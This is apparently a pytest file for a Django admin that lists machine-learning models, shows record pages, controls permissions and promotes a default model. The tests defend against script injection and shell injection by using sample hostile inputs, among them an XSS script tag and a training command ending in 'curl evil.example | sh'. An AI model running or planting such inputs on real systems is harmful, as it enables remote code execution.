"""The models in the admin: the list, the record page, and choosing a default."""

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.admin.utils import help_text_for_field
from django.test import Client
from django.urls import reverse
from pytest_django import DjangoAssertNumQueries, Settings

from registry import default_model
from registry.admin.record.page import READ_ONLY
from registry.models import Alias, HubModel, SyncRun
from tests.registry.conftest import Save, Sync
from tests.registry.staff import LIST, act, address_of, page, staff

pytestmark = pytest.mark.django_db
SCRIPT = "<script>alert(1)</script>"


@pytest.fixture
def viewer() -> Client:
    return staff("view_hubmodel", "view_syncrun")


@pytest.fixture
def promoter() -> Client:
    return staff("view_hubmodel", "promote_hubmodel")


def names(html: str) -> list[str]:
    return re.findall(r'<th class="field-name"><a href="[^"]+">([^<]+)</a>', html)


def record_page(client: Client, name: str) -> str:
    return page(client, address_of(name))


def promote(client: Client, *names: str, **more: str) -> Any:
    return act(client, "make_default", *names, **more)


# --- The list -----------------------------------------------------------------------------------


def test_the_list_shows_the_most_accurate_first(three: None, viewer: Client) -> None:
    html = page(viewer, LIST)

    assert names(html) == ["ben", "ada", "cyd"]
    assert "784 → 4 → 10 · relu" in html
    assert "3,190" in html
    assert "98.25 %" in html


def test_the_list_marks_the_default(three: None, viewer: Client) -> None:
    default_model.choose("cyd")

    served = re.findall(r'field-served">([^<]+)<', page(viewer, LIST))

    assert served == ["by name", "by name", "as the default"]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"status__exact": "missing"}, ["cyd"]),
        ({"activation__exact": "relu"}, ["ben", "ada", "cyd"]),
        ({"activation__exact": "tanh"}, []),
        ({"repository__source__exact": "folder"}, ["ben", "ada", "cyd"]),
        ({"repository__source__exact": "hub"}, []),
        ({"served": "default"}, ["ben"]),
        ({"served": "yes"}, ["ben", "ada"]),
        ({"served": "no"}, ["cyd"]),
        ({"served": "alias"}, ["ada", "cyd"]),
        ({"served": "nonsense"}, []),
        ({"q": "ben"}, ["ben"]),
        ({"updated_at__year": "1999"}, []),
        ({"o": "4"}, ["cyd", "ada", "ben"]),
        ({"o": "-6.-4"}, ["ben", "ada", "cyd"]),
    ],
    ids=str,
)
def test_the_list_can_be_filtered_searched_and_sorted(
    three: None, viewer: Client, query: dict[str, str], expected: list[str]
) -> None:
    for name in ("ada", "cyd"):
        Alias.objects.create(name=f"of-{name}", record=HubModel.objects.get(name=name))
    HubModel.objects.filter(name="cyd").update(status="missing")

    assert names(page(viewer, LIST, **query)) == expected


def test_the_list_shows_what_is_served_by_which_name(three: None, viewer: Client) -> None:
    for alias, name in (("best", "ben"), ("a", "cyd"), ("b", "cyd")):
        Alias.objects.create(name=alias, record=HubModel.objects.get(name=name))
    HubModel.objects.filter(name="cyd").update(status="missing")

    served = re.findall(r'field-served">([^<]+)<', page(viewer, LIST))

    assert served == ["as the default, @best", "by name", "@a, @b, not served"]


def test_the_number_of_queries_does_not_grow_with_the_list(
    three: None,
    put_here: Save,
    mirror: Sync,
    viewer: Client,
    django_assert_num_queries: DjangoAssertNumQueries,
) -> None:
    for number in range(20):
        put_here(f"many-{number}")
    mirror()

    with django_assert_num_queries(15):
        assert len(names(page(viewer, LIST))) == 23


def test_an_empty_list_has_a_page(folder: Path, viewer: Client) -> None:
    assert "0 models" in page(viewer, LIST)


# --- The record page ----------------------------------------------------------------------------


@pytest.fixture
def trained(put_here: Save, mirror: Sync) -> None:
    confusion = [[10 * (i == j) for j in range(10)] for i in range(10)]
    confusion[4][9] = 30
    put_here(
        "ada",
        97.5,
        description="Small and quick.",
        training={"epochs": 2, "command": "manage.py train_mnist --sizes 784 4 10 --epochs 2"},
        history=[
            {"epoch": 1, "loss": 0.5, "train_accuracy": 90, "validation_accuracy": 91},
            {"epoch": 2, "loss": 0.4, "train_accuracy": 92, "validation_accuracy": None},
        ],
        confusion=confusion,
        calibration={"ece": 0.012},
    )
    mirror()


def test_the_record_page_shows_everything_that_is_known(trained: None, viewer: Client) -> None:
    html = record_page(viewer, "ada")

    record = HubModel.objects.get()
    for text in (
        "Small and quick.",
        record.revision,
        record.sha256,
        record.repository.repo_id,
        "<code>manage.py train_mnist --sizes 784 4 10 --epochs 2</code>",
        "<td>epochs</td><td>2</td>",
        "validation ends at 91; training ends at 92.",
        "loss ends at 0.4.",
        "Most frequent mistake: 4 read as 9, 30 times.",
        "<td>4</td><td>25.0 %</td><td>40</td>",
        "<td>ece</td><td>0.012</td>",
    ):
        assert text in html


def test_the_record_page_leads_to_the_sheet_with_its_network_chosen(
    three: None, viewer: Client
) -> None:
    """The playground reads what is behind the #, and nothing before it."""
    assert '<a href="/#model=ada">Draw digits for ada</a>' in record_page(viewer, "ada")


def test_the_record_page_takes_thirteen_queries(
    trained: None, viewer: Client, django_assert_num_queries: DjangoAssertNumQueries
) -> None:
    path = reverse("admin:registry_hubmodel_change", args=[HubModel.objects.get().pk])

    page(viewer, path)  # the content type is looked up once per process

    with django_assert_num_queries(13):
        page(viewer, path)


@pytest.mark.parametrize("field", [*filter(callable, READ_ONLY)], ids=lambda field: field.__name__)
def test_a_computed_field_does_not_show_the_help_text_of_a_model_field(
    field: Callable[..., object],
) -> None:
    assert help_text_for_field(field.__name__, HubModel) == ""


def test_an_artifact_with_little_metadata_has_a_page(
    put_here: Save, mirror: Sync, viewer: Client
) -> None:
    put_here("ada").with_suffix(".json").write_text('{"accuracy": 90}')
    mirror()

    assert "<polyline" not in record_page(viewer, "ada")


def test_the_page_of_an_invalid_artifact_says_what_is_wrong(
    put_here: Save, mirror: Sync, viewer: Client
) -> None:
    put_here("ada").with_suffix(".json").write_text("{}")
    mirror()

    assert "The .json does not give the accuracy." in record_page(viewer, "ada")


def test_texts_of_an_artifact_are_escaped(
    folder: Path, put_here: Save, mirror: Sync, viewer: Client
) -> None:
    put_here(
        "ada",
        description=SCRIPT,
        training={SCRIPT: SCRIPT, "command": SCRIPT},
        history=[{SCRIPT: 1.0, "epoch": 1, "loss": 1e300}],
        calibration={SCRIPT: 1.0},
    )
    (folder / "README.md").write_text(SCRIPT)
    mirror()

    html = record_page(viewer, "ada") + page(viewer, LIST)

    assert SCRIPT not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


@pytest.mark.parametrize(
    "command",
    [
        "manage.py train_mnist --epochs 2; curl evil.example | sh",
        "manage.py train_mnist --name $(id)",
        "manage.py train_mnist --epochs 2\nreboot",
        "manage.py flush",
        ["manage.py train_mnist"],
    ],
    ids=str,
)
def test_a_command_that_a_shell_could_misread_is_not_shown(
    put_here: Save, mirror: Sync, viewer: Client, command: object
) -> None:
    put_here("ada", training={"command": command})
    mirror()

    assert "<code>" not in record_page(viewer, "ada")


def test_the_pages_have_no_inline_styles_and_scripts(trained: None, promoter: Client) -> None:
    html = page(promoter, LIST) + record_page(promoter, "ada")
    html += promote(promoter, "ada").content.decode()

    assert not re.search(r"\sstyle=|\son\w+=|<style|javascript:", html)
    assert all(" src=" in tag for tag in re.findall(r"<script[^>]*>", html) if "json" not in tag)


# --- Permissions --------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["add/", "{}/delete/"])
def test_nobody_can_add_or_delete_records(three: None, admin_client: Client, path: str) -> None:
    address = LIST + path.format(HubModel.objects.first().pk)

    assert admin_client.get(address).status_code == 403


def test_nobody_can_edit_mirrored_fields(three: None, admin_client: Client) -> None:
    admin_client.post(address_of("cyd"), {"accuracy": 100, "status": "invalid", "name": "eve"})

    record = HubModel.objects.get(name="cyd")
    assert (record.accuracy, record.status) == (95.0, "available")


def test_staff_can_edit_notes_and_tags_and_the_edit_is_logged(three: None) -> None:
    annotator = staff("view_hubmodel", "annotate_hubmodel")

    annotator.post(address_of("cyd"), {"tags": "teaching demo", "notes": "Shown in May."})

    record = HubModel.objects.get(name="cyd")
    assert (record.tags, record.notes) == ("teaching demo", "Shown in May.")
    assert LogEntry.objects.get().get_change_message() == "Changed Tags and Notes."
    assert names(page(annotator, LIST, q="teaching")) == ["cyd"]


def test_tags_are_words(three: None) -> None:
    annotator = staff("view_hubmodel", "annotate_hubmodel")

    html = annotator.post(address_of("cyd"), {"tags": "<b>", "notes": ""}).content.decode()

    assert "Words of letters, digits, . _ -, with spaces." in html
    assert HubModel.objects.get(name="cyd").tags == ""


def test_notes_have_a_limit(three: None) -> None:
    annotator = staff("view_hubmodel", "annotate_hubmodel")

    html = annotator.post(address_of("cyd"), {"tags": "", "notes": "x" * 10_001}).content.decode()

    assert "Ensure this value has at most 10000 characters (it has 10001)." in html
    assert HubModel.objects.get(name="cyd").notes == ""


def test_saving_notes_does_not_undo_a_sync_meanwhile(
    three: None, put_here: Save, mirror: Sync
) -> None:
    annotator = staff("view_hubmodel", "annotate_hubmodel")
    annotator.get(address_of("cyd"))
    put_here("cyd", 95.5, seed=9)
    mirror()

    annotator.post(address_of("cyd"), {"tags": "", "notes": "Checked."})

    record = HubModel.objects.get(name="cyd")
    assert (record.accuracy, record.notes) == (95.5, "Checked.")


def test_a_sync_keeps_notes_and_tags(three: None, put_here: Save, mirror: Sync) -> None:
    HubModel.objects.filter(name="cyd").update(notes="Checked.", tags="demo")
    put_here("cyd", 95.5, seed=9)

    mirror()

    record = HubModel.objects.get(name="cyd")
    assert (record.accuracy, record.notes, record.tags) == (95.5, "Checked.", "demo")


def test_a_viewer_cannot_edit_notes(three: None, viewer: Client) -> None:
    assert viewer.post(address_of("cyd"), {"notes": "Checked."}).status_code == 403
    assert "<textarea" not in record_page(viewer, "cyd")


def test_staff_without_permissions_cannot_see_the_list(three: None) -> None:
    assert staff().get(LIST).status_code == 403


def test_a_viewer_is_offered_no_actions(three: None, viewer: Client) -> None:
    assert "make_default" not in page(viewer, LIST)


def test_a_viewer_cannot_promote(three: None, viewer: Client) -> None:
    promote(viewer, "cyd", confirmed="yes")

    assert HubModel.objects.default().name == "ben"


# --- Make default -------------------------------------------------------------------------------


def test_make_default_asks_first(three: None, promoter: Client) -> None:
    html = promote(promoter, "cyd").content.decode()

    assert "<strong>ben</strong> (98.25 %)" in html
    assert "<strong>cyd</strong> (784 → 4 → 10 · relu, 95.00 %)" in html
    assert HubModel.objects.default().name == "ben"


def test_make_default_chooses_once_confirmed_and_is_logged(three: None, promoter: Client) -> None:
    html = promote(promoter, "cyd", confirmed="yes").content.decode()

    entry = LogEntry.objects.get()
    assert "The default is now cyd." in html
    assert HubModel.objects.default().name == "cyd"
    assert (entry.object_repr, entry.change_message, entry.user.username) == (
        "cyd",
        "Made the default.",
        "grace",
    )


def test_make_default_takes_exactly_one_model(three: None, promoter: Client) -> None:
    html = promote(promoter, "cyd", "ada").content.decode()

    assert "Select exactly one model." in html


@pytest.mark.parametrize("more", [{}, {"confirmed": "yes"}], ids=["asked", "confirmed"])
def test_a_missing_model_cannot_be_made_the_default(
    three: None, promoter: Client, more: dict[str, str]
) -> None:
    HubModel.objects.filter(name="cyd").update(status="missing")

    html = promote(promoter, "cyd", **more).content.decode()

    assert "Model cyd is not served: only available models" in html
    assert not LogEntry.objects.exists()


def test_make_default_warns_when_default_model_is_set(
    three: None, promoter: Client, settings: Settings
) -> None:
    settings.DEFAULT_MODEL = "ada"
    warning = "The setting DEFAULT_MODEL wins over this choice for as long as it is set."

    assert warning in promote(promoter, "cyd").content.decode()
    assert warning in promote(promoter, "cyd", confirmed="yes").content.decode()


# --- Sync runs ----------------------------------------------------------------------------------


def test_sync_runs_are_listed_and_shown(three: None, viewer: Client, admin_client: Client) -> None:
    run = SyncRun.objects.get()
    address = reverse("admin:registry_syncrun_change", args=[run.pk])

    assert "3 created" in page(viewer, "/admin/registry/syncrun/")
    assert "a test" in page(viewer, address)
    assert admin_client.post(address, {"error": "none"}).status_code == 403
